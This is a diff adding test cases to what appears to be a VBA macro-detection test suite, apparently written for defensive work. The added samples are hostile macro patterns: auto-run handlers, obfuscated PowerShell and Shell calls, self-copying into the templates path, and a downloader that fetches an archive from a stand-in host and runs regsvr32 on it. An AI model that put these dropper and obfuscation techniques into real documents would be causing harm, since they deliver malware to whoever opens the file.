@@ -158,6 +158,42 @@ Sub Auto_Open()
 End Sub
 )vba",
          "vba.autoexec-executes vba.hostile-command"},
+    Case{"2015 base64 in pieces, decoded by a function of its own", R"vba('#document ThisDocument
+Private Sub Document_Open()
+  Shell q7(StrReverse("==ANh5WYilWb1ZGIvh2YlBCIlByalxGblh2cyV2dvB3") & ""), 0
+End Sub
+'#standard Module1
+Function q7(s)
+  For i = 1 To Len(s): q7 = q7 & ChrW(AscW(Mid(s, i, 1)) Xor 0): Next
+End Function
+)vba",
+         "vba.autoexec-executes"},
+    Case{"2017 AutoClose, environment as source of letters", R"vba('#standard Module1
+Sub AutoClose()
+  Dim z
+  z = Mid(Environ("comspec"), 1, 0) & "cmd" & ".exe /c " & "pow" & "ersh" & "ell -e" & "nc ZQBjAGgAbwAgAGYAdQBtAGkAYgBhAG4A"
+  Interaction.Shell z, 0
+End Sub
+)vba",
+         "vba.autoexec-executes vba.hides-command vba.hostile-command"},
+    Case{"2022-11 workbook that copies itself to where macros are trusted", R"vba('#document ThisWorkbook
+Private Sub Workbook_Open()
+  FileCopy ThisWorkbook.FullName, Application.TemplatesPath & "\a.xls"
+  Shell "regsvr32.exe /s C:\ProgramData\a.ocx", vbHide
+End Sub
+)vba",
+         "vba.autoexec-executes vba.hostile-command vba.writes-files"},
+    Case{"2023-03 archive fetched, unpacked by the shell, regsvr32", R"vba('#document ThisDocument
+Private Sub Document_Open()
+  Dim h: Set h = CreateObject("MSXML2.ServerXMLHTTP.6.0")
+  h.Open "GET", "https://cms.invalid/wp-content/?123456", False: h.Send
+  Dim s: Set s = CreateObject("ADODB.Stream"): s.Type = 1: s.Open: s.Write h.responseBody
+  s.SaveToFile "C:\ProgramData\a.zip", 2
+  CreateObject("Shell.Application").Namespace("C:\ProgramData").CopyHere "C:\ProgramData\a.zip"
+  Shell "regsvr32 /s C:\ProgramData\a.dll"
+End Sub
+)vba",
+         "vba.autoexec-executes vba.downloads vba.hostile-command"},
     Case{"injection by API", R"vba('#document ThisDocument
 Private Declare PtrSafe Function va Lib "kernel32" Alias "VirtualAlloc" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr
 Private Declare PtrSafe Function ct Lib "kernel32" Alias "CreateThread" (ByVal a As Long, ByVal b As Long, ByVal c As LongPtr, d As Long, ByVal e As Long, f As Long) As LongPtr
